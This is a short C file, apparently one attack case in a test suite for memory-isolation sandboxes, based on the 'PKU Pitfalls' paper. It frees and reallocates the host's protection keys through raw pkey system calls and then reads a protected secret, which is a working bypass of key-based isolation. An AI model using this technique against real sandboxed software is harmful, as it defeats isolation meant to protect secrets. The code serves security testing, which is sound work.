/* Tries: to free the host's keys and allocate them anew, with all rights
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020)
 * Observed: The secret in what the call gave back.
 * Needs: linux, keys */
#include "attacks/attack.h"

FOREIGN(run)
{
    if (at->gate_start) /* where there are keys */
        for (int key = 1; key < 16; key++) {
            kernel3(SYS_pkey_free, (uint64_t)key, 0, 0);
            kernel3(SYS_pkey_alloc, 0, 0, 0);
        }
    take(at, at->secret_global);
    return 0;
}
